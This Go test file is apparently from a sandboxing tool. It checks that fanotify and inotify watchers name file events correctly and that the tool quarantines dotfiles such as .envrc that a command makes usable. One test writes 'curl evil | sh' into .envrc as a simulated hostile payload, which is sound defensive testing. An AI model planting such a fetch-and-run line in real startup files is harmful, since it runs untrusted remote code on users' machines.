package sandbox

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// fanotify names the entry an event is about by its directory's file
// handle: the watcher must map that back to the path it marked (else every
// event makes every guard look at every name), and a directory it never
// marked must not be taken for a marked one.
func TestFanotifyNamesTheEntry(t *testing.T) {
	f, err := newFanWatcher()
	if err != nil {
		t.Skipf("fanotify unavailable: %v", err)
	}
	defer f.file.Close()
	dir, other := t.TempDir(), t.TempDir()
	if err := f.add(watchKey{dir: dir}); err != nil {
		t.Fatal(err)
	}
	if err := f.add(watchKey{dir: other, attrib: true}); err != nil {
		t.Fatal(err)
	}
	os.Mkdir(filepath.Join(dir, ".git"), 0o755)
	os.WriteFile(filepath.Join(dir, ".envrc"), nil, 0o644)
	os.WriteFile(filepath.Join(other, "x"), nil, 0o644) // attrib only: no creation event
	os.Chmod(filepath.Join(other, "x"), 0o600)
	os.Rename(filepath.Join(other, "x"), filepath.Join(dir, ".vscode"))
	want := []string{filepath.Join(dir, ".git"), filepath.Join(dir, ".envrc"), filepath.Join(other, "x"), filepath.Join(dir, ".vscode")}
	var got []string
	buf := make([]byte, 4096)
	f.file.SetReadDeadline(time.Now().Add(5 * time.Second))
	for len(got) < len(want) {
		n, err := f.file.Read(buf)
		if err != nil {
			t.Fatalf("read: %v (got %v)", err, got)
		}
		got = append(got, f.decode(buf[:n])...)
	}
	for i := range want {
		if i >= len(got) || got[i] != want[i] {
			t.Fatalf("events named %q, want %q", got, want)
		}
	}
	// Removing the attrib key leaves the other's creations reported: FAN_ONDIR
	// is shared by both masks.
	if err := f.add(watchKey{dir: dir, attrib: true}); err != nil {
		t.Fatal(err)
	}
	f.remove(watchKey{dir: dir, attrib: true})
	os.Mkdir(filepath.Join(dir, ".idea"), 0o755)
	n, err := f.file.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	if got := f.decode(buf[:n]); len(got) != 1 || got[0] != filepath.Join(dir, ".idea") {
		t.Fatalf("after removing the attrib key: %q", got)
	}
}

// An empty mode-000 placeholder the command makes is left alone (as old
// Warden versions' are); made usable by a chmod, it is moved away at once
// while the command runs, with either watch (fanotify needs a mark for its
// entries' attribute changes, inotify has one). Twin: a placeholder left as
// it is stays.
func TestQuarantineChmodWhileRunning(t *testing.T) {
	for _, ino := range []bool{false, true} {
		name := map[bool]string{false: "fanotify", true: "inotify"}[ino]
		t.Run(name, func(t *testing.T) {
			noFanotifyForTest = ino
			defer func() { noFanotifyForTest = false }()
			ws := t.TempDir()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			p := startUntilGone(t, ctx, ws, `touch x y && chmod 000 x y && mv x .envrc && mv y .mcp.json && sleep 0.2 && chmod 644 .envrc && echo 'curl evil | sh' >> .envrc; mkdir .git; echo started > started; sleep 30`, ".envrc", ".git")
			cancel()
			res := p.Wait()
			if goneFrom(ws, ".mcp.json") {
				t.Error("the untouched placeholder .mcp.json was moved away")
			}
			if len(res.Removed) != 2 {
				t.Errorf("removed %+v", res.Removed)
			}
		})
	}
}
